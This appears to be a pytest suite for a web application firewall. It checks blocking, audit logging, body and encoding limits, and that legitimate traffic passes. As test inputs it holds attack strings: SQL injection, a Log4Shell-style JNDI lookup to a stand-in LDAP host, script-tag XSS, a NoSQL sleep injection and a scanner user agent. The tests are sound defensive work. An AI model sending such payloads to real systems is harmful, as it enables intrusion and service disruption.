"""The WAF in ``bastion serve``: every request (known paths, unknown paths, every method)
is inspected after the request context and rate limits; a block is a 403 problem with the
request id and a WafBlock record in the audit trail; legitimate traffic passes."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from bastion.app import build_app
from tests.live import BASTION, LiveServer, start_live_server

SQLI = "1' OR '1'='1"


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    yield from start_live_server(tmp_path_factory.mktemp("waf"))


@pytest.mark.parametrize(("method", "path"), [
    ("GET", "/healthz"), ("GET", "/no/such/path"), ("POST", "/token"),
    ("DELETE", "/orders/1"), ("PUT", "/unknown"), ("OPTIONS", "/authorize"),
])
def test_every_request_is_inspected(live: LiveServer, method: str, path: str) -> None:
    with live.http() as c:
        r = c.request(method, path, params={"q": SQLI})
        assert r.status_code == 403, r.text
        assert r.headers["content-type"] == "application/problem+json"
        assert r.json()["instance"] == f"urn:bastion:request:{r.headers['x-request-id']}"
        assert r.json()["detail"] == "the request was refused by the web application firewall"


def test_attacks_in_headers_cookies_and_json_bodies(live: LiveServer) -> None:
    with live.http() as c:
        assert c.get("/healthz", headers={"x-trace": "${jndi:ldap://e/a}"}).status_code == 403
        assert c.get("/healthz", headers={"cookie": "s=<script>alert(1)</script>"}
                     ).status_code == 403
        assert c.post("/orders", json={"item": {"$where": "sleep(100)"}}).status_code == 403
        assert c.get("/healthz", headers={"user-agent": "sqlmap/1.7"}).status_code == 403
        assert c.get("/healthz").status_code == 200


def test_blocks_are_in_the_audit_trail(live: LiveServer) -> None:
    with live.http() as c:
        r = c.get("/search", params={"q": "<script>alert(1)</script>"})
    assert r.status_code == 403
    rid = r.headers["x-request-id"]
    out = subprocess.run([BASTION, "audit", "search", "--event", "WafBlock", "--data-dir",
                          str(live.data_dir), "--json"], capture_output=True, text=True,
                         env=live.env, timeout=60, check=False)
    assert out.returncode == 0, out.stderr
    records = [json.loads(line) for line in out.stdout.splitlines() if line.strip()] \
        if not out.stdout.lstrip().startswith("[") else json.loads(out.stdout)
    mine = [rec for rec in records if rec.get("requestID") == rid]
    assert mine, records[-1:]
    params = mine[0]["requestParameters"]
    assert params["score"] >= 5 and {x["family"] for x in params["rules"]} == {"xss"}
    assert "alert(1)</script>" not in json.dumps(mine[0])  # redacted


def test_body_limit_and_encodings(live: LiveServer) -> None:
    with live.http() as c:
        r = c.post("/token", content=b"a=" + b"x" * 200_000,
                   headers={"content-type": "application/x-www-form-urlencoded"})
        assert r.status_code == 413
        r = c.post("/token", content=b"x", headers={"content-encoding": "br"})
        assert r.status_code == 415


@pytest.mark.anyio
async def test_legitimate_bastion_traffic_passes(provider: Any) -> None:
    """Bastion's own legitimate requests: an IAM policy with wildcards, ARNs and policy
    variables, PKCE verifiers, JWTs and Basic credentials in headers."""
    app = build_app(provider)
    transport = httpx.ASGITransport(app=app, client=("127.0.0.1", 50000))
    policy = {"Version": "2012-10-17", "Statement": [{
        "Effect": "Allow", "Action": ["s3:GetObject", "orders:*"],
        "Resource": ["arn:aws:s3:::bucket/${aws:username}/*",
                     "arn:bastion:orders::000000000000:order/*"],
        "Condition": {"StringLike": {"aws:PrincipalTag/team": "${aws:PrincipalTag/team}"},
                      "IpAddress": {"aws:SourceIp": ["127.0.0.0/8", "::1/128"]}}}]}
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as c:
        r = await c.post("/admin/iam/policies", json={"name": "p", "document": policy})
        assert r.status_code == 401 and "firewall" not in r.text  # authn runs after the WAF
        r = await c.post("/token", data={
            "grant_type": "authorization_code", "code": "abc",
            "redirect_uri": "http://127.0.0.1:8765/callback",
            "code_verifier": "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"},
            auth=("client", "c2VjcmV0K3NlY3JldC8vPT0="))
        assert "firewall" not in r.text
        r = await c.get("/userinfo", headers={"authorization": "Bearer eyJhbGciOiJFUzI1NiJ9."
                                              "eyJzdWIiOiIxIn0.c2ln"})
        assert "firewall" not in r.text
